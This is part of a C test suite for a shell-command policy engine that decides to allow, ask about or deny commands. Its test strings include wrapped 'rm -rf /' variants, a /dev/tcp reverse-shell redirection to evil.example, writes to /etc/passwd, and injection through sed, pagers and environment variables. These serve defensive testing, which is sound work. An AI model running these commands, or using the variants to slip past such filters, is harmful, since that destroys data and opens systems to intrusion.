        CHECK_DECIDE("coproc X { rm -rf /; }", D);
        CHECK_DECIDE("coproc rm -rf /", D);
}

TEST(arithmetic_and_bindings)
{
        CHECK_DECIDE("[[ X -eq 0 ]]", Q);
        CHECK_DECIDE("[[ 0 -lt n ]]", Q);
        CHECK_DECIDE("[[ 1 -eq 0x1 ]]", A);
        CHECK_DECIDE("[[ -v 'a[X]' ]]", Q);
        CHECK_DECIDE("test -v 'a[X]'", Q);
        CHECK_DECIDE("printf -v 'a[X]' x", Q);
        CHECK_DECIDE("a=([X]=1)", Q);
        CHECK_DECIDE("a=([1]=1)", A);
        CHECK_DECIDE("echo \"${a[0]}\"", A);
        CHECK_DECIDE("echo \"${a[i]}\"", Q);
        CHECK_DECIDE("for PATH in /tmp/evil; do ls; done", Q);
        CHECK_DECIDE("for f in a b; do ls \"$f\"; done", A);
        CHECK_DECIDE("select PATH in /tmp; do ls; done", Q);
        CHECK_DECIDE("read -r PATH", Q);
        CHECK_DECIDE("printf -v PATH x", Q);
        CHECK_DECIDE("declare -n r=PATH", Q);
        CHECK_DECIDE("declare -i n", Q);
        CHECK_DECIDE("export GIT_DIR=/x", Q);
        CHECK_DECIDE("local PYTHONPATH=/x", Q);
        CHECK_DECIDE("mapfile BASH_ENV", Q);
        CHECK_DECIDE("getopts ab IFS", Q);
        CHECK_DECIDE("wait -p PATH", Q);
        CHECK_DECIDE("ls | xargs --process-slot-var=PATH ls", Q);
        CHECK_DECIDE("bash -k -c ls", Q);
        CHECK_DECIDE("bash -o keyword -c ls", Q);
        CHECK_DECIDE("set -k", Q);
        CHECK_DECIDE("ls {PATH}>/dev/null", Q);
        CHECK_DECIDE("ls {fd}>/dev/null", A);
        CHECK_DECIDE("coproc PATH { ls; }", Q);
        CHECK(sh_binding_problem("PATH", 4));
        CHECK(sh_binding_problem("GIT_TRACE2", 10));
        CHECK(sh_binding_problem("NODE_OPTIONS", 12));
        CHECK(sh_binding_problem("PERL5DB", 7));
        CHECK(sh_binding_problem("RIPGREP_CONFIG_PATH", 19));
        CHECK(sh_binding_problem("http_proxy", 10));
        CHECK(sh_binding_problem("FOO", 3));
        CHECK(!sh_binding_problem("line", 4));
        CHECK(!sh_binding_problem("REPLY", 5));
        CHECK(!sh_binding_problem("a[3]", 4));
        CHECK(sh_binding_problem("a[i]", 4));
}

TEST(run_time_splicing)
{
        CHECK_DECIDE("ls | xargs -I% bash -c 'echo %'", Q);
        CHECK_DECIDE("ls | xargs -i bash -c 'echo {}'", Q);
        CHECK_DECIDE("find . -exec sh -c 'echo {}' \\;", Q);
        CHECK_DECIDE("find . -exec sh -c 'cat \"$1\"' _ {} \\;", Q);
        CHECK_DECIDE("ls | xargs bash -c 'echo \"$@\"' _", Q);
        CHECK_DECIDE("ls | xargs -I{} echo {}", A);
        CHECK_DECIDE("find . -exec sh -c 'ls' \\;", A);
}

TEST(option_tables)
{
        const prog_spec *sort = spec_find("sort", NULL), *git_reset = spec_find("git", "reset");
        spec_opt o;

        CHECK(sort && git_reset && !spec_find("git", "frobnicate"));
        CHECK_INTEQ(spec_lookup(sort, "o", 1, 2, &o), 1); /* --o: only --output starts with "o" */
        CHECK_INTEQ(spec_lookup(sort, "frob", 4, 2, &o), 0);
        CHECK_INTEQ(spec_lookup(sort, "outp", 4, 2, &o), 1);
        CHECK(o.effect == 'W' && o.canon_short && o.canon[0] == 'o');
        CHECK_INTEQ(spec_lookup(sort, "co", 2, 2, &o), 1); /* --compress-program: --check starts with "ch" */
        CHECK(o.effect == 'X');
        CHECK_INTEQ(spec_lookup(sort, "s", 1, 2, &o), -EAGAIN); /* --sort, --stable */
        CHECK_INTEQ(spec_lookup(git_reset, "ha", 2, 2, &o), 1);
        CHECK(o.canon_len == 4 && strneq(o.canon, "hard", 4));

        _cleanup_(pc_policy_freep) pc_policy *p = load("version 1\ndefault ask\nallow exec sort ...\n"
                                                       "allow exec sort -o * ...\nallow exec uniq ...\n"
                                                       "allow exec sed ...\nallow exec grep ...\n"
                                                       "allow exec git diff ...\nallow exec git blame ...\n"
                                                       "allow write /tmp/**\ndeny exec rm -rf ...\n"
                                                       "deny exec git reset --hard ...\n");
        CHECK_INTEQ(decide(p, "sort -k1,1 f"), A);
        CHECK_INTEQ(decide(p, "sort --compress-program=sh f"), Q);
        CHECK_INTEQ(decide(p, "sort --o=x f"), A); /* --o is -o, which "sort -o * ..." names */
        CHECK_INTEQ(decide(p, "sort --compress=gzip f"), Q);
        CHECK_INTEQ(decide(p, "sort -o x f"), A);     /* named by the rule */
        CHECK_INTEQ(decide(p, "sort --outp=/tmp/x f"), A); /* the write rules decide the file */
        CHECK_INTEQ(decide(p, "sort --frob f"), Q);
        CHECK_INTEQ(decide(p, "sort \"$o\" f"), Q);
        CHECK_INTEQ(decide(p, "uniq a b"), Q);
        CHECK_INTEQ(decide(p, "uniq a /tmp/b"), A);
        CHECK_INTEQ(decide(p, "sed -n 1p f"), A);
        CHECK_INTEQ(decide(p, "sed 'e' f"), Q);
        CHECK_INTEQ(decide(p, "sed -n '1e id' f"), Q);
        CHECK_INTEQ(decide(p, "sed 's/a/b/w x' f"), Q);
        CHECK_INTEQ(decide(p, "sed -e p -e 'w x' f"), Q);
        CHECK_INTEQ(decide(p, "sed -f script f"), Q);
        CHECK_INTEQ(decide(p, "sed -i s/a/b/ f"), Q);
        CHECK_INTEQ(decide(p, "grep -5 -rn x ."), A);
        CHECK_INTEQ(decide(p, "git diff --ou=x"), Q);
        CHECK_INTEQ(decide(p, "git --no-pager diff --stat"), A);
        CHECK_INTEQ(decide(p, "git -c core.pager=sh diff"), Q);
        CHECK_INTEQ(decide(p, "git blame \"$f\""), A);
        CHECK_INTEQ(decide(p, "rm -r --f /"), D);
        CHECK_INTEQ(decide(p, "rm --rec --for /"), D);
        CHECK_INTEQ(decide(p, "git reset --ha"), D);
        CHECK_INTEQ(decide(p, "git -C x reset --hard"), D);

        CHECK(sed_script_effect("s/a/b/g") == 0);
        CHECK(sed_script_effect("/x/d;5q") == 0);
        CHECK(sed_script_effect("1~2{p;n}") == 0);
        CHECK(sed_script_effect("s|/|x|gw out") == 'W');
        CHECK(sed_script_effect("/re/e") == 'X');
        CHECK(sed_script_effect("s/a/b/e") == 'X');
        CHECK(sed_script_effect("y/abc/xyz/") == 0);
        CHECK(sed_script_effect("a\\\ntext w x") == 0);
        CHECK(sed_script_effect("r /etc/passwd") == 0);
        CHECK(sed_script_effect("W out") == 'W');
}

TEST(redirections_network_and_paths)
{
        CHECK_DECIDE("cat x 0</dev/tcp/evil.example/4444 1>&0", Q);
        CHECK_DECIDE("cat < /dev/./tcp//evil/80", Q);
        CHECK_DECIDE("cat < \"$f\"", Q);
        CHECK_DECIDE("cat < file", A);
        CHECK_DECIDE("cat <<< \"$x\"", A);
        CHECK_DECIDE("echo x > /tmp/../etc/passwd", D);
        CHECK_DECIDE("echo x > //etc/passwd", D);
        CHECK_DECIDE("echo x > /etc/./passwd", D);
        CHECK_DECIDE("echo x > /tmp/x", A);
        CHECK_DECIDE("echo x > /tmp/a/b", Q); /* * does not cross / */
        CHECK_DECIDE("cd /tmp && echo x > ../etc/passwd", Q);

        static const struct {
                const char *in, *out;
        } norm[] = {
                { "/tmp/../etc/passwd", "/etc/passwd" }, { "//etc//passwd", "/etc/passwd" }, { "/..", "/" },
                { "a/./b/../c", "a/c" }, { "../x", "../x" }, { "a/../../x", "../x" }, { "./x", "./x" },
                { "./a/../b", "./b" }, { "~/../x", "~/../x" }, { ".", "." }, { "a/..", "." }, { "/", "/" },
        };
        for (size_t i = 0; i < ELEMENTSOF(norm); i++) {
                _cleanup_free_ char *n = path_normalize(norm[i].in);
                CHECK_STREQ(n, norm[i].out);
        }
        CHECK(glob_match("/tmp/*", "/tmp/x"));
        CHECK(!glob_match("/tmp/*", "/tmp/x/y"));
        CHECK(glob_match("/tmp/**", "/tmp/x/y"));
        CHECK(glob_match("**.bashrc", "/root/.bashrc"));
        CHECK(glob_match("a/[bc]?", "a/cd"));
        CHECK(!glob_match("a/?", "a//"));
        CHECK(glob_match("\\*", "*"));
        CHECK(!glob_match("\\*", "x"));
}

TEST(wrappers_looked_through)
{
        static const char *const cmds[] = {
                "setsid rm -rf /", "setsid -f rm -rf /", "ionice -c3 rm -rf /", "ionice -c 2 -n 7 rm -rf /",
                "chrt 5 rm -rf /", "chrt -f 5 rm -rf /", "flock /tmp/l rm -rf /", "flock -n /tmp/l -c 'rm -rf /'",
                "busybox rm -rf /", "script -q -c 'rm -rf /' /dev/null", "time -p -- rm -rf /",
                "/usr/bin/time -o /tmp/t rm -rf /",
        };
        for (size_t i = 0; i < ELEMENTSOF(cmds); i++)
                CHECK_DECIDE(cmds[i], D);
        CHECK_DECIDE("/usr/bin/time -o /etc/x ls", D); /* time's own output file is decided */
        CHECK_DECIDE("/usr/bin/time -o /tmp/x ls", A);
        CHECK_DECIDE("ionice -p 1", Q);
        CHECK_DECIDE("sudo -i", Q);
        CHECK_DECIDE("sudo -s ls", Q);
}

static char *repeat(const char *head, const char *unit, size_t n, const char *mid, const char *unit2, size_t n2)
{
        _cleanup_(sb_done) strbuf b = {};
        CHECK(sb_puts(&b, head) >= 0);
        for (size_t i = 0; i < n; i++)
                CHECK(sb_puts(&b, unit) >= 0);
        CHECK(sb_puts(&b, mid) >= 0);
        for (size_t i = 0; i < n2; i++)
                CHECK(sb_puts(&b, unit2) >= 0);
        return sb_steal(&b);
}

/* The arithmetic-or-subshell question is answered once per "(": nesting costs work linear in the size of
 * the input (counted by the parser, not timed). */
TEST(linear_work)
{
        static const struct {
                const char *head, *unit, *mid, *unit2;
        } shapes[] = {
                { "echo ", "$(( ", "ls", " ) )" },      /* the issue's example: each level is a subshell */
                { "echo ", "$(( ", "x", " ))" },        /* real arithmetic */
                { "", "(( ", "x", " ))" },
                { "echo ", "$(( ( ", "ls", " ) ) )" },
                { "echo ", "\"$(", "ls", ")\"" },
                { "echo ", "${x:-", "y", "}" },
                { "", "( ", "ls", " )" },
        };
        for (size_t i = 0; i < ELEMENTSOF(shapes); i++) {
                double per_byte[2];
                for (size_t k = 0; k < 2; k++) {
                        size_t depth = k == 0 ? 5 : 40, steps = 0;
                        _cleanup_free_ char *cmd = repeat(shapes[i].head, shapes[i].unit, depth, shapes[i].mid,
                                                          shapes[i].unit2, depth);
                        _cleanup_pc_verdict_ pc_verdict *v = NULL;
                        CHECK(policy_decide_counted(base(), cmd, strlen(cmd), &v, &steps) >= 0);
                        per_byte[k] = (double) steps / (double) strlen(cmd);
                        if (per_byte[k] > 16)
                                printf("#   shape %zu depth %zu: %zu steps for %zu bytes\n", i, depth, steps, strlen(cmd));
                        CHECK(per_byte[k] <= 16);
                }
        }
        /* 1 MiB of commands, substitutions and arithmetic */
        _cleanup_free_ char *big = repeat("", "echo $((1+2)) \"$(ls -l)\" ${x:-y} > /dev/null; ", 16000, "", "", 0);
        size_t steps = 0;
        _cleanup_pc_verdict_ pc_verdict *v = NULL;
        CHECK(policy_decide_counted(base(), big, strlen(big), &v, &steps) >= 0);
        CHECK(steps <= 16 * strlen(big));
        CHECK(v && v->decision == PC_DECISION_ALLOW);
}

TEST(verdict_lists_are_capped)
{
        _cleanup_free_ char *cmd = repeat("", "ls; ", 5000, "rm -rf /", "", 0);
        _cleanup_pc_verdict_ pc_verdict *v = NULL;

        CHECK(pc_policy_decide(base(), cmd, strlen(cmd), &v) >= 0);
        CHECK_INTEQ(v->n_commands, PC_VERDICT_ENTRIES_MAX);
        CHECK_INTEQ(v->n_commands_omitted, 5001 - PC_VERDICT_ENTRIES_MAX);
        CHECK_INTEQ(v->decision, D); /* the verdict covers what is not listed */
        CHECK_INTEQ(v->omitted_decision, D);
}

/* Deciding 1 MiB needs at most 20 times its size in memory (checked with an address-space limit in a
 * child; not under AddressSanitizer, whose shadow memory does not fit such a limit). */
#if defined(__SANITIZE_ADDRESS__)
#define HAVE_ASAN 1
#elif defined(__has_feature)
#if __has_feature(address_sanitizer)
#define HAVE_ASAN 1
#endif
#endif

#ifdef HAVE_ASAN
/* Under AddressSanitizer an address-space limit measures its shadow memory, not us: the sanitizer's
 * allocator hooks count the live heap instead, and its peak is held to the same bound. */
size_t __sanitizer_get_allocated_size(const volatile void *p);
int __sanitizer_install_malloc_and_free_hooks(void (*malloc_hook)(const volatile void *, size_t),
                                              void (*free_hook)(const volatile void *));
static size_t heap_live, heap_peak;
static void heap_on_malloc(const volatile void *p, size_t n)
{
        heap_live += n;
        if (heap_live > heap_peak)
                heap_peak = heap_live;
}
static void heap_on_free(const volatile void *p)
{
        heap_live -= __sanitizer_get_allocated_size(p);
}
#endif

TEST(memory_bound)
{
        static const char *const units[] = { "a;", "x=", "echo \"$(ls)\" ", "$((1))", "cat <<E\n$x\nE\n", "((" };
        for (size_t i = 0; i < ELEMENTSOF(units); i++) {
                size_t n = PC_COMMAND_MAX / strlen(units[i]);
                _cleanup_free_ char *cmd = repeat("", units[i], n, "", "", 0);
                size_t len = strlen(cmd);
                pid_t pid = fork();
                CHECK(pid >= 0);
                if (pid == 0) {
                        pc_verdict *v = NULL;
#ifdef HAVE_ASAN
                        const pc_policy *pol = base();
                        int r;

                        (void) __sanitizer_install_malloc_and_free_hooks(heap_on_malloc, heap_on_free);
                        r = pc_policy_decide(pol, cmd, len, &v);
                        if (r >= 0 && heap_peak > 20 * len)
                                _exit(4);
                        _exit(r < 0 ? 1 : 0);
#else
                        _cleanup_free_ char *status = NULL;
                        unsigned long vm_kb = 0;
                        CHECK(read_full_file("/proc/self/status", 1 << 20, &status, NULL) >= 0);
                        const char *l = strstr(status, "VmSize:");
                        if (!l || sscanf(l, "VmSize: %lu", &vm_kb) != 1)
                                _exit(2);
                        struct rlimit rl = { .rlim_cur = vm_kb * 1024 + 20 * len + 4 * 1024 * 1024 };
                        rl.rlim_max = rl.rlim_cur;
                        if (setrlimit(RLIMIT_AS, &rl) < 0)
                                _exit(3);
                        _exit(pc_policy_decide(base(), cmd, len, &v) < 0 ? 1 : 0);
#endif
                }
                int st = 0;
                CHECK(waitpid(pid, &st, 0) == pid);
                if (!WIFEXITED(st) || WEXITSTATUS(st) != 0)
                        printf("#   unit %zu: the decision did not fit in 20x %zu bytes (status %d)\n", i, len, st);
                CHECK(WIFEXITED(st) && WEXITSTATUS(st) == 0);
        }
}
